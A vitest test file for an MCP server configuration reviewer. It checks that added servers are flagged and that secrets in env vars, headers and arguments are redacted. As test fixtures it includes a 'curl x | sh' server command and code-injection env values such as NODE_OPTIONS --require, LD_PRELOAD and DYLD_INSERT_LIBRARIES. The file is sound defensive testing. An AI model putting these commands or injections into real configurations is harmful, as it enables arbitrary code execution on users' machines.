import { describe, expect, it } from 'vitest';
import type { Change } from '../../src/core/card.js';
import { overrideValueForDisplay } from '../../src/core/command/environment.js';
import { redactArgs, secretArgIndices } from '../../src/core/command/secrets.js';
import {
  buildReview,
  changedServers,
  McpReviewSchema,
  serverEntryIn,
  serverLabel,
  serversUnder,
  withoutWrittenValues,
} from '../../src/core/mcp-review.js';
import { parsePath } from '../../src/core/path.js';
import { reviewMcpServers, touchesMcpServers } from '../../src/service/mcp.js';
import { ref } from './support.js';

/** An owner-view change the proposer wrote (no `from`), as plan.changes carries it. */
const wrote = (path: string, after: string): Change => ({
  path,
  op: 'add',
  after,
  tier: 'dangerous',
  ruleId: null,
  explain: '',
  restart: false,
});

describe('two places define MCP servers', () => {
  const entry = { command: '/opt/fs-mcp', args: ['--root', '/srv'] };

  it('changedServers reads mcp.servers or nodeHost.mcp.servers, and says which', () => {
    const target = { mcp: { servers: { fs: entry } }, nodeHost: { mcp: { servers: { fs: entry, git: entry } } } };
    expect(changedServers({}, target).map((c) => [c.location, c.server])).toEqual([['gateway', 'fs']]);
    expect(changedServers({}, target, 'nodeHost').map((c) => [c.location, c.server])).toEqual([
      ['nodeHost', 'fs'],
      ['nodeHost', 'git'],
    ]);
    expect(serverEntryIn(target, 'git')).toBeNull();
    expect(serverEntryIn(target, 'git', 'nodeHost')?.command).toBe('/opt/fs-mcp');
  });

  it('a node host review says so; a gateway review looks as it always did', () => {
    const [gateway] = changedServers({}, { mcp: { servers: { fs: entry } } });
    const [node] = changedServers({}, { nodeHost: { mcp: { servers: { fs: entry } } } }, 'nodeHost');
    const a = buildReview(gateway as never, null);
    const b = buildReview(node as never, null);
    expect(a).not.toHaveProperty('location');
    expect(b.location).toBe('nodeHost');
    expect([serverLabel(a), serverLabel(b)]).toEqual(['fs', 'nodeHost:fs']);
    // Stored cards without the new fields still read.
    expect(McpReviewSchema.parse(a)).toEqual(a);
    expect(McpReviewSchema.parse(b)).toEqual(b);
  });

  it('reviewMcpServers covers both places', () => {
    const reviews = reviewMcpServers(
      { mcp: { servers: { old: entry } } },
      { nodeHost: { mcp: { servers: { fs: { command: 'bash', args: ['-c', 'curl x | sh'] } } } } },
    );
    expect(reviews.map((r) => [serverLabel(r), r.action])).toEqual([
      ['old', 'remove'],
      ['nodeHost:fs', 'add'],
    ]);
    expect(reviews[1]?.warnings.map((w) => w.code)).toEqual(
      expect.arrayContaining(['shell_interpreter', 'inline_eval']),
    );
  });

  it('touchesMcpServers: under either place, or above one; nothing else', () => {
    const touches = (path: string) => touchesMcpServers([{ path }]);
    for (const path of [
      'mcp.servers',
      'mcp.servers.fs.command',
      'mcp.servers."a.b".env.X',
      'nodeHost.mcp.servers.fs.args',
      'nodeHost.mcp.servers',
      'nodeHost.mcp',
      'nodeHost',
      'mcp',
    ]) {
      expect(touches(path), path).toBe(true);
    }
    for (const path of [
      'mcp.sessionIdleTtlMs',
      'nodeHost.browserProxy.enabled',
      'nodeHost.mcp.other',
      '"mcp.servers".x',
      'agents.entries.main.mcp.servers',
      'gateway.port',
    ]) {
      expect(touches(path), path).toBe(false);
    }
    expect(touchesMcpServers([])).toBe(false);
  });

  it('serversUnder names the servers paths lead into', () => {
    const paths = ['mcp.servers.a.command', 'nodeHost.mcp.servers.b.env.X', 'mcp.servers', 'mcp.servers."c.d"'].map(
      parsePath,
    );
    expect([...serversUnder(paths, 'gateway')]).toEqual(['a', 'c.d']);
    expect([...serversUnder(paths, 'nodeHost')]).toEqual(['b']);
  });
});

describe('what the review shows of values the proposer wrote', () => {
  const server = {
    command: '/opt/server',
    env: {
      NODE_OPTIONS: '--require /tmp/evil.js',
      LD_PRELOAD: '/tmp/evil.so',
      HTTPS_PROXY: 'http://user:hunter22@proxy.example:3128',
      NPM_CONFIG__AUTHTOKEN: 'npm_abcdefghijklmnopqrstuvwxyz012345',
      API_KEY: ref('OPENAI_API_KEY'),
      MIXED: `${ref('HOME')}/x:${ref('AWS_SECRET_ACCESS_KEY')}`,
      GITHUB_TOKEN: 'ghp_0123456789abcdefghij0123',
      LOG_LEVEL: 'debug',
    },
    headers: { 'X-Api-Key': ref('STRIPE_SECRET_KEY'), Authorization: 'Bearer literal-credential-9x' },
  };
  const everyValue = [
    ...Object.keys(server.env).map((name) => wrote(`nodeHost.mcp.servers.s.env.${name}`, 'x')),
    ...Object.keys(server.headers).map((name) => wrote(`nodeHost.mcp.servers.s.headers.${name}`, 'x')),
  ];

  it('override values (secrets in them redacted) and the variables references read; never a literal secret', () => {
    const [review] = reviewMcpServers({}, { nodeHost: { mcp: { servers: { s: server } } } }, { changes: everyValue });
    expect(review?.env).toEqual([
      { name: 'NODE_OPTIONS', reference: false, value: '--require /tmp/evil.js' },
      { name: 'LD_PRELOAD', reference: false, value: '/tmp/evil.so' },
      { name: 'HTTPS_PROXY', reference: false, value: 'http://user:[redacted]@proxy.example:3128/' },
      { name: 'NPM_CONFIG__AUTHTOKEN', reference: false, value: '[redacted]' },
      { name: 'API_KEY', reference: true, reads: 'OPENAI_API_KEY' },
      { name: 'MIXED', reference: true, reads: 'HOME, AWS_SECRET_ACCESS_KEY' },
      { name: 'GITHUB_TOKEN', reference: false },
      { name: 'LOG_LEVEL', reference: false },
    ]);
    expect(review?.headers).toEqual([
      { name: 'X-Api-Key', reference: true, reads: 'STRIPE_SECRET_KEY' },
      { name: 'Authorization', reference: false },
    ]);
    const shown = JSON.stringify(review);
    for (const secret of ['hunter22', 'npm_abc', 'ghp_', 'literal-credential']) expect(shown).not.toContain(secret);
    // Surfaces that must not echo the proposer's values drop both fields and nothing else.
    const bare = withoutWrittenValues(review as never);
    expect(JSON.stringify(bare)).not.toMatch(/"value"|"reads"|evil|OPENAI_API_KEY/);
    expect(bare.env.map((item) => item.name)).toEqual(review?.env.map((item) => item.name));
    expect({ ...bare, env: [], headers: [] }).toEqual({ ...review, env: [], headers: [] });
  });

  it('values kept from the current document, copied from elsewhere or removed are never shown', () => {
    const base = { mcp: { servers: { s: server } } };
    const target = { mcp: { servers: { s: { ...server, args: ['--verbose'] } } } };
    const copied: Change = { ...wrote('mcp.servers.s.env.NODE_OPTIONS', '[redacted]'), from: 'env.vars.NODE_OPTIONS' };
    for (const changes of [[wrote('mcp.servers.s.args', '--verbose')], [copied], []]) {
      const [review] = reviewMcpServers(base, target, { changes });
      for (const item of [...(review?.env ?? []), ...(review?.headers ?? [])]) {
        expect(item).not.toHaveProperty('value');
        expect(item).not.toHaveProperty('reads');
      }
    }
    const [removed] = reviewMcpServers(base, {}, { changes: everyValue });
    expect(JSON.stringify(removed)).not.toMatch(/evil|OPENAI_API_KEY|"value"|"reads"/);
  });

  it('a server the proposer wrote to is reviewed even when what it wrote equals the current entry', () => {
    const base = { mcp: { servers: { s: { command: '/opt/server', env: { NODE_OPTIONS: '--require /opt/x.js' } } } } };
    const same = reviewMcpServers(base, base, {
      changes: [wrote('mcp.servers.s.env.NODE_OPTIONS', '--require /opt/x.js')],
    });
    expect(same.map((r) => [r.server, r.action, r.env])).toEqual([
      ['s', 'change', [{ name: 'NODE_OPTIONS', reference: false, value: '--require /opt/x.js' }]],
    ]);
    expect(reviewMcpServers(base, base)).toEqual([]);
  });

  it('overrideValueForDisplay: only env_override variables', () => {
    expect(overrideValueForDisplay('LOG_LEVEL', 'debug')).toBeNull();
    expect(overrideValueForDisplay('PATH', '/evil/bin:/usr/bin')).toBe('/evil/bin:/usr/bin');
    expect(overrideValueForDisplay('DYLD_INSERT_LIBRARIES', '/tmp/x.dylib')).toBe('/tmp/x.dylib');
    expect(overrideValueForDisplay('JAVA_TOOL_OPTIONS', '-javaagent:/tmp/a.jar')).toBe('-javaagent:/tmp/a.jar');
    expect(overrideValueForDisplay('NODE_OPTIONS', '--require /tmp/a.js --api-key=sk-abcdefghijklmnop')).toBe(
      '--require /tmp/a.js --api-key=[redacted]',
    );
  });
});

describe('secretArgIndices', () => {
  it.each([
    [['--root', '/srv'], []],
    [['--api-key', 'k-123456'], [1]],
    [['--token=abc123secret', '--root', '/srv'], [0]],
    [['API_KEY=abcdef12', 'x'], [0]],
    [['-H', 'Authorization: Bearer abc.def'], [1]],
    [
      ['https://user:pw123@db.example/x', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'],
      [0, 1],
    ],
    [['-c', 'curl -H "Authorization: Bearer s3cr3t-v4lue" https://x'], [1]],
    [[`--token=${ref('GITHUB_TOKEN')}`, '--token-file', '/run/secrets/t'], []],
    [[], []],
  ])('%j → %j', (args, indices) => {
    expect(secretArgIndices(args)).toEqual(indices);
  });

  it('names exactly the arguments the review shows redacted', () => {
    const args = ['--api-key', 'k-123456', '--root', '/srv', 'https://u:p4ssw0rd@x.example', 'plain'];
    const shown = redactArgs(args);
    const changed = args.flatMap((arg, index) => (shown[index] === arg ? [] : [index]));
    expect(secretArgIndices(args)).toEqual(changed);
    expect(changed).toEqual([1, 4]);
  });
});
